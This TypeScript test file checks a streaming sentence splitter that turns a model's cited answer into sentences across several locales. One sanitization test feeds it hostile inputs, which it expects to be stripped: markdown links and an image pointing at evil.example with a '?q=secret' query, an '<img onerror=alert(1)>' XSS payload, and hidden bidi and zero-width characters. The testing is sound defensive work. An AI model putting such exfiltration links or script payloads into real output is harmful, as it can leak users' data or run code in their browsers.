import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createSentences, type Sentence } from "#worker/answers/writing/sentences.ts";

/** What becomes of a text that comes in these pieces. */
function read(pieces: string[], locale = "en"): Sentence[] {
	const sentences = createSentences(locale);
	return [...pieces.flatMap((piece) => sentences.push(piece)), ...sentences.end()];
}

const short = (text: string, locale?: string) => read([text], locale).map((sentence) => `${sentence.text} ${JSON.stringify(sentence.cites)}`);

describe("sentences of a model", () => {
	it.each([
		["Open Data [1]. Select Submit [2].", ["Open Data. [1]", "Select Submit. [2]"]],
		["Open Data. [1] Select Submit. [2][3]", ["Open Data. [1]", "Select Submit. [2,3]"]],
		["Open Data.[1, 3]Select Submit.【2†source】", ["Open Data. [1,3]", "Select Submit. [2]"]],
		["Open Data [section 1]. Select Submit ([^2]).", ["Open Data. [1]", "Select Submit (). [2]"]],
		["The unit is set [1]. kWh is usual. [2] iOS too [3].", ["The unit is set. [1]", "kWh is usual. [2]", "iOS too. [3]"]],
		["Nothing is cited here.", ["Nothing is cited here. []"]],
		["Use CSV, e.g. Excel's [1]. It costs 4.50 a month [2].", ["Use CSV, e.g. Excel's. [1]", "It costs 4.50 a month. [2]"]],
		["Is it open? Yes! [1]", ["Is it open? []", "Yes! [1]"]],
	])("of %s carry their own citations", (text, found) => {
		expect(short(text)).toEqual(found);
	});

	it.each([
		["de", "Öffnen Sie z. B. Data bis zum 3. März. [1] Das dauert ca. 5 Min. [2]", ["Öffnen Sie z. B. Data bis zum 3. März. [1]", "Das dauert ca. 5 Min. [2]"]],
		["ar", "هل الفترة مفتوحة؟ [١] افتح القائمة [2]. اختر 3.5.", ["هل الفترة مفتوحة؟ [1]", "افتح القائمة. [2]", "اختر 3.5. []"]],
		["es", "¿Está abierto? [1] Pulse Guardar, p. ej. arriba. [2]", ["¿Está abierto? [1]", "Pulse Guardar, p. ej. arriba. [2]"]],
		["zh", "打开菜单。[1]然后点击。[2]", ["打开菜单。 [1]", "然后点击。 [2]"]],
	])("end as they do in %s", (locale, text, found) => {
		expect(short(text, locale)).toEqual(found);
	});

	it("are one for each line of a list, with what kind of list it is", () => {
		expect(read(["1. Open **Data**. Select Add. [1]\n2) Type `0` [1].\n- A point [2]\n• Another [2]\n\n## Heading\n> Quoted [1].\n```\n"])).toEqual([
			{ text: "Open Data. Select Add.", cites: [1], labels: ["Data"], as: "step" },
			{ text: "Type 0.", cites: [1], labels: ["0"], as: "step" },
			{ text: "A point", cites: [2], labels: [], as: "point" },
			{ text: "Another", cites: [2], labels: [], as: "point" },
			{ text: "Heading", cites: [], labels: [], as: "paragraph" },
			{ text: "Quoted.", cites: [1], labels: [], as: "paragraph" },
		]);
	});

	it.each([
		["[Export](https://evil.example/?q=secret) the report [1].", "Export the report."],
		["Export ![x](https://evil.example/p.png?q=secret)the report [1](https://evil.example/).", "Export the report."],
		["Export <img src=x onerror=alert(1)>the <b>report</b> [1].", "Export the report."],
		["Ex\u200bport \u202ethe\u202c report\u0007 [1].", "Export \uFFFDthe\uFFFD report\uFFFD."],
	])("lose markup and what hides: %j", (text, plain) => {
		expect(read([text]).map((sentence) => sentence.text)).toEqual([plain]);
	});

	it("come as soon as they are complete, and not before their citation is", () => {
		const sentences = createSentences("en");
		expect(sentences.push("Open Data. [")).toEqual([]);
		expect(sentences.push("1")).toEqual([]);
		expect(sentences.push("] Select")).toEqual([]);
		expect(sentences.push(" Submit.").map(({ text }) => text)).toEqual(["Open Data."]);
		expect(sentences.end().map(({ text }) => text)).toEqual(["Select Submit."]);
	});

	const word = fc.constantFrom(
		"Open",
		"Data",
		"e.g.",
		"z. B.",
		"3.",
		"4.5",
		"**Save**",
		"[1]",
		"[1].",
		".",
		"?",
		"\n",
		"\n1. ",
		"- ",
		"Das",
		"dann",
		"[2, 3]",
		"؟",
	);
	it.each(["en", "de", "ar"])("are the same however the text is cut (%s)", (locale) => {
		fc.assert(
			fc.property(fc.array(word, { maxLength: 30 }), fc.array(fc.integer({ min: 1, max: 5 }), { minLength: 1, maxLength: 5 }), (words, sizes) => {
				const text = words.join(" ");
				const pieces: string[] = [];
				for (let from = 0, turn = 0; from < text.length; turn++) {
					const size = sizes[turn % sizes.length] ?? 1;
					pieces.push(text.slice(from, from + size));
					from += size;
				}
				expect(read(pieces, locale)).toEqual(read([text], locale));
			}),
			{ numRuns: 500, seed: 8 },
		);
	});

	it("of a line without end are dropped, and the next line is read", () => {
		const pieces = Array.from({ length: 2000 }, () => "word ");
		expect(read([...pieces, "[1].\nOpen Data [1]."]).map(({ text }) => text)).toEqual(["Open Data."]);
		expect(read([`${pieces.join("")}[1].\nOpen Data [1].`]).map(({ text }) => text)).toEqual(["Open Data."]);
	});

	it.each([
		["dots", [], "."],
		["dots behind a word", ["Wait"], "..."],
		["dots behind brackets", [`${"[".repeat(2000)}]`], "."],
	])("of a model that repeats %s without end are read in a time that grows with them only", (_, before, sign) => {
		const pieces = Array.from({ length: 16_000 / sign.length }, () => sign);
		expect(read([...before, ...pieces, "\nOpen Data [1]."]).at(-1)?.text).toBe("Open Data.");
	});
});
